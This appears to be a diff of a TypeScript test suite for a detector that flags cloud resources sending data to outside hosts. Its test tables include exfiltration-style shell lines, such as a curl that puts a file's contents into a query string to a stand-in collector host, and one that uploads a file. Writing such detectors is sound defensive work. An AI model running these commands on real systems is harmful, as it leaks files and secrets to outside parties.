@@ -76,20 +76,22 @@ test.each<[string, Inputs]>([
   ["by a host like one of a cloud", { env: { CALLBACK_URL: "https://sqs.amazonaws.com.shop.example/x" } }],
   ["by a host that begins with a digit", { env: { CALLBACK_URL: "https://1shop.example/x" } }],
   ["a bucket anybody may read", { script: "aws s3 cp s3://public-agents/x ." }],
-  ["whose pages may call, whoever they are", { env: { ALLOWED_ORIGINS: "https://app.vendor.example" } }],
+  ["whose pages may call", { env: { ALLOWED_ORIGINS: "https://app.partner.example" } }],
 ])("harmless: %s", (_, inputs) => {
   expect(mentions(inputs)).toEqual([]);
 });
 
-test("a host of the company's own domain is its own, whatever the variable is called", () => {
+test("a host of the company's own domain is its own address, and under another variable anywhere", () => {
   const zone = resource("zone", { type: "aws:a/zone:Zone", inputs: { domain: "acme.example" } });
-  const told = (X: string) => {
-    const app = resource("app", { type: runs.type, inputs: { env: { X } } });
+  const told = (env: Inputs) => {
+    const app = resource("app", { type: runs.type, inputs: { env } });
     const estate = buildMadeUp([zone, app], madeUpFacts([runs, { type: "aws:a/zone:Zone", kinds: ["inert"] }]));
     return [...estate.byUrn.values()].flatMap((node) => mentionsOf(node, estate)).map(({ word }) => word);
   };
-  expect(told("https://api.acme.example/v1")).toEqual([]);
-  expect(told("https://api.acme.example.partner.example/v1")).toEqual(["api.acme.example.partner.example"]);
+  expect(told({ SITE_URL: "https://api.acme.example/v1" })).toEqual([]);
+  expect(told({ SINK: "https://api.acme.example/v1" })).toEqual(["api.acme.example"]);
+  const beside = "https://api.acme.example.partner.example/v1";
+  expect(told({ SITE_URL: beside })).toEqual(["api.acme.example.partner.example"]);
 });
 
 test("the address of something of the stack tells where that lies, also one that leads out of no network", () => {
@@ -117,12 +119,14 @@ test.each<[string, Inputs]>([
   ["nothing under a harmless key", { settings: { description: null, X: abroad } }],
   ["a word and more under a harmless key", { settings: { description: { a: "x", more: { X: abroad } } } }],
   ["a bucket of somebody else, by its address", { env: { X: "https://people.s3.us-east-1.amazonaws.com/x" } }],
+  ["a vendor whose pages may call", { env: { ALLOWED_ORIGINS: "https://app.vendor.example" } }],
   ["a vendor under a key of browsers", { env: { CALLBACK_URL: "https://app.vendor.example/x" } }],
   ["a cloud under a key of pages", { env: { ALLOWED_ORIGINS: "https://sqs.us-east-1.amazonaws.com" } }],
   ["a number under a key of browsers", { env: { CALLBACK_URL: "https://203.0.113.9/x" } }],
   ["what is sent to a host that only gives out", { script: "curl -T x https://packages.example/a" }],
   ["what is filled into an address", { script: "curl https://collector.example/?q=$(cat x)" }],
   ["an image that is pushed", { script: "docker push 1.dkr.ecr.us-east-1.amazonaws.com/x" }],
+  ["a vendor whose pages may call", { env: { ALLOWED_ORIGINS: "https://app.vendor.example" } }],
   ["a vendor under a key of browsers", { env: { CALLBACK_URL: "https://in.vendor.example/x" } }],
   ["a cloud's host under a key of browsers", { env: { CALLBACK_URL: abroad } }],
 ])("not harmless: %s", (_, inputs) => {
